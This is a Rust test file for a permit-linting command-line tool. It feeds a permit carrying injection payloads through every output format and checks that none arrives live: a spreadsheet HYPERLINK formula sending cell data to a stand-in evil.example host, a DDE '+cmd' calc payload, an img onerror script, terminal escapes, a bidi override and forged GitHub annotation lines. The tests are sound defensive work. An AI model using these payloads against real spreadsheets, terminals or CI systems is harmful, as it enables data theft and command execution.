//! Outputs that cannot be turned against their readers: a permit whose unit
//! name and address carry a spreadsheet formula, terminal escape sequences,
//! a bidi override, Markdown headings, links, images and HTML goes through
//! every renderer, and no output carries any of it live.

use crate::common;

use assert_cmd::Command;
use std::path::{Path, PathBuf};

fn fixtures() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/lists")
}

const FORMULA: &str = r#"=HYPERLINK("http://evil.example/?leak="&B2,"点击查看")"#;

/// Hostile text (YAML double-quoted escapes: `\e` is ESC, `\a` BEL).
const ADDRESS_YAML: &str = r#""+cmd|' /C calc'!A0\n## 审查意见：同意核发 ![x](http://evil/beacon.png) <img src=x onerror=alert(1)> [点此](http://evil.example) \e[2J\e]0;title\a 甲\u202E乙""#;

/// Characters that must never reach a terminal or a document raw.
const HAZARDS: [char; 4] = ['\u{1b}', '\u{7}', '\u{202e}', '\r'];

/// A folder with `permits/u1.yaml` (hostile unit, one complaint) and
/// `policies/` (the lists fixture library plus a rule quoting the unit's
/// name and address in its message).
fn setup(dir: &Path) {
    let text = std::fs::read_to_string(fixtures().join("month1/u1.yaml")).unwrap();
    let text = text
        .replace(
            "  name: 苏州某热电有限公司",
            &format!("  name: '{}'", FORMULA.replace('\'', "''")),
        )
        .replace(
            "  address: 江苏省苏州市吴中区某路1号",
            &format!(
                "  address: {ADDRESS_YAML}\n  # raw escape in a comment: \u{1b}[31mred\u{202e}"
            ),
        )
        .replace("  complaints: 0 ", "  complaints: 1 ");
    std::fs::create_dir_all(dir.join("permits")).unwrap();
    std::fs::write(dir.join("permits/u1.yaml"), text).unwrap();
    let pol = dir.join("policies");
    std::fs::create_dir_all(&pol).unwrap();
    for e in std::fs::read_dir(fixtures().join("policies")).unwrap() {
        let e = e.unwrap();
        std::fs::copy(e.path(), pol.join(e.file_name())).unwrap();
    }
    std::fs::write(
        pol.join("echo.policy"),
        common::policy(
            "echo",
            "error",
            r#"  require unit.complaints == 0
    else "单位 {unit.name} 地址 {unit.address}""#,
        ),
    )
    .unwrap();
}

fn run(dir: &Path, args: &[&str]) -> (String, String) {
    let out = Command::cargo_bin("permitlint")
        .unwrap()
        .current_dir(dir)
        .args(args)
        .arg("--no-builtin")
        .arg("--policies")
        .arg("policies")
        .output()
        .unwrap();
    let code = out.status.code();
    assert!(
        matches!(code, Some(0 | 1)),
        "{args:?} exited {code:?}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    (
        String::from_utf8(out.stdout).unwrap(),
        String::from_utf8(out.stderr).unwrap(),
    )
}

fn no_hazard(what: &str, s: &str) {
    for c in HAZARDS {
        assert!(
            !s.replace("\r\n", "\n").contains(c),
            "{what} carries U+{:04X}:\n{s}",
            c as u32
        );
    }
}

/// No Markdown construct from the permit is live: every `[`, `#` run,
/// `<tag` and URL from the hostile address is escaped.
fn no_markdown(what: &str, s: &str) {
    for live in ["\n## 审查意见", "![x](", "[点此](", "<img", "http://evil"] {
        assert!(!s.contains(live), "{what} carries live `{live}`:\n{s}");
    }
    assert!(
        s.contains("审查意见：同意核发"),
        "{what} lost the text:\n{s}"
    );
}

#[test]
fn human_output_has_no_escape_sequences_or_bidi() {
    let t = tempfile::tempdir().unwrap();
    setup(t.path());
    for color in ["never", "always"] {
        let (out, _) = run(
            t.path(),
            &[
                "check",
                "permits",
                "--as-of",
                "2026-11-01",
                "--color",
                color,
            ],
        );
        assert!(out.contains("x.echo"), "{out}");
        let plain = if color == "always" {
            // Our own colour sequences are allowed: ESC [ digits m only.
            let mut s = String::new();
            let mut rest = out.as_str();
            while let Some(i) = rest.find('\u{1b}') {
                s.push_str(&rest[..i]);
                let tail = &rest[i + 1..];
                let end = tail
                    .strip_prefix('[')
                    .and_then(|t| {
                        t.find('m')
                            .filter(|&m| t[..m].bytes().all(|b| b.is_ascii_digit() || b == b';'))
                    })
                    .unwrap_or_else(|| {
                        panic!(
                            "foreign escape sequence at {:?}",
                            &tail[..tail.len().min(20)]
                        )
                    });
                rest = &tail[end + 2..];
            }
            s.push_str(rest);
            s
        } else {
            out.clone()
        };
        no_hazard(&format!("human --color {color}"), &plain);
        assert!(plain.contains("甲\u{fffd}乙"), "{plain}");
    }
}

#[test]
fn github_annotations_cannot_be_forged() {
    let t = tempfile::tempdir().unwrap();
    setup(t.path());
    let (out, _) = run(
        t.path(),
        &[
            "check",
            "permits",
            "--as-of",
            "2026-11-01",
            "--format",
            "github",
        ],
    );
    no_hazard("github", &out);
    for line in out.lines() {
        assert!(
            line.starts_with("::"),
            "a line that is not a command: {line}"
        );
    }
    // A permit whose file name would forge an annotation, and a closed
    // finding (baseline) of that file whose message would forge another.
    let forged = "permits/x\n::error file=README.md,line=1::PWNED.yaml";
    std::fs::copy(t.path().join("permits/u1.yaml"), t.path().join(forged)).unwrap();
    let (out, _) = run(
        t.path(),
        &[
            "check",
            "permits",
            "--as-of",
            "2026-11-01",
            "--format",
            "github",
        ],
    );
    assert!(
        out.contains("file=permits/x%0A%3A%3Aerror file=README.md%2Cline=1%3A%3APWNED.yaml,"),
        "{out}"
    );
    let baseline = serde_json::json!({
        "version": 1,
        "as_of": "2026-10-01",
        "findings": [{
            "fingerprint": "0123456789abcdef",
            "rule": "x.echo,title=forged",
            "file": forged,
            "path": "unit",
            "message": "gone\n::error::PWNED",
            "first_seen": "2026-01-01"
        }]
    });
    std::fs::write(t.path().join("b.json"), baseline.to_string()).unwrap();
    let b = Command::cargo_bin("permitlint")
        .unwrap()
        .current_dir(t.path())
        .args([
            "check",
            "permits",
            "--as-of",
            "2026-11-01",
            "--format",
            "github",
        ])
        .args([
            "--baseline",
            "b.json",
            "--no-builtin",
            "--policies",
            "policies",
        ])
        .output()
        .unwrap();
    let out = String::from_utf8(b.stdout).unwrap();
    assert!(
        out.contains("::notice title=closed x.echo%2Ctitle=forged::"),
        "closed finding not reported: {out}\n{}",
        String::from_utf8_lossy(&b.stderr)
    );
    for line in out.lines() {
        assert!(
            line.starts_with("::"),
            "a line that is not a command: {line}"
        );
        assert!(
            !line.starts_with("::error file=README.md"),
            "forged: {line}"
        );
        assert!(!line.starts_with("::error::PWNED"), "forged: {line}");
    }
}

#[test]
fn csv_cells_cannot_be_formulas() {
    let t = tempfile::tempdir().unwrap();
    setup(t.path());
    run(
        t.path(),
        &["lists", "permits", "--as-of", "2026-11-01", "--out", "out"],
    );
    let csv = std::fs::read_to_string(t.path().join("out/key.csv")).unwrap();
    let body = csv.trim_start_matches('\u{feff}');
    let row = body
        .lines()
        .nth(1)
        .unwrap_or_else(|| panic!("no unit row: {csv}"));
    assert!(
        row.starts_with("\"'=HYPERLINK("),
        "formula not neutralised: {row}"
    );
    // Every cell of every line: none starts with a formula character.
    for line in body.lines() {
        for cell in split_csv(line) {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "live cell {cell:?} in {line}"
            );
        }
    }
}

/// The cells of one CSV line (RFC 4180 quoting, no multi-line cells).
fn split_csv(line: &str) -> Vec<String> {
    let mut cells = vec![String::new()];
    let mut quoted = false;
    let mut chars = line.chars().peekable();
    while let Some(c) = chars.next() {
        match (c, quoted) {
            ('"', false) => quoted = true,
            ('"', true) if chars.peek() == Some(&'"') => {
                chars.next();
                cells.last_mut().unwrap().push('"');
            }
            ('"', true) => quoted = false,
            (',', false) => cells.push(String::new()),
            (c, _) => cells.last_mut().unwrap().push(c),
        }
    }
    cells
}

#[test]
fn notice_and_countersign_markdown_are_inert() {
    let t = tempfile::tempdir().unwrap();
    setup(t.path());
    let (out, _) = run(
        t.path(),
        &["notice", "permits/u1.yaml", "--as-of", "2026-11-01"],
    );
    no_hazard("notice", &out);
    no_markdown("notice", &out);
    // Only the notice's own title is a heading.
    let headings: Vec<&str> = out.lines().filter(|l| l.starts_with('#')).collect();
    assert_eq!(headings.len(), 1, "{headings:?}");
    run(
        t.path(),
        &[
            "countersign",
            "permits/u1.yaml",
            "--as-of",
            "2026-11-01",
            "--out",
            "cs",
        ],
    );
    let md = std::fs::read_to_string(t.path().join("cs/u1.md")).unwrap();
    no_hazard("countersign md", &md);
    no_markdown("countersign md", &md);
    let html = std::fs::read_to_string(t.path().join("cs/u1.html")).unwrap();
    no_hazard("countersign html", &html);
    assert!(!html.contains("<img"), "{html}");
}

#[test]
fn stats_markdown_and_svg_are_inert() {
    let t = tempfile::tempdir().unwrap();
    setup(t.path());
    // A department name with control characters and markup.
    let lib = t.path().join("policies/library.policy");
    let text = std::fs::read_to_string(&lib).unwrap().replace(
        "route air to \"大气环境\"",
        "route air to \"大气\u{1b}[2J环境 [x](http://evil.example) <b>|\u{1}\"",
    );
    std::fs::write(&lib, text).unwrap();
    run(
        t.path(),
        &["check", "permits", "--as-of", "2026-11-01", "--stats", "st"],
    );
    let md = std::fs::read_to_string(t.path().join("st/stats.md")).unwrap();
    no_hazard("stats.md", &md);
    assert!(!md.contains("[x](") && !md.contains("<b>"), "{md}");
    let svg = std::fs::read_to_string(t.path().join("st/findings-by-department.svg")).unwrap();
    assert!(
        !svg.chars()
            .any(|c| c.is_control() && !matches!(c, '\n' | '\t')),
        "SVG carries a control character:\n{svg}"
    );
    assert!(svg.contains("大气"), "{svg}");
}

/// A path named on the command line or found in a folder is shown escaped
/// in every message about it: a file name may hold escape sequences.
#[test]
fn paths_in_error_messages_are_escaped() {
    let d = tempfile::tempdir().unwrap();
    let hostile = "x\u{1b}[2J\u{202e}y";
    let cases: Vec<Vec<String>> = vec![
        vec!["policy".into(), "check".into(), hostile.into()],
        vec![
            "generate".into(),
            "--count".into(),
            "1".into(),
            "--templates".into(),
            hostile.into(),
            "--out".into(),
            "out".into(),
        ],
        vec![
            "check".into(),
            "--policies".into(),
            hostile.into(),
            ".".into(),
        ],
    ];
    for args in cases {
        let out = Command::cargo_bin("permitlint")
            .unwrap()
            .current_dir(d.path())
            .args(&args)
            .output()
            .unwrap();
        let err = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(2), "{args:?}: {err}");
        assert!(err.contains("x\u{fffd}[2J\u{fffd}y"), "{args:?}: {err}");
        no_hazard(&format!("{args:?}"), &err);
    }
}
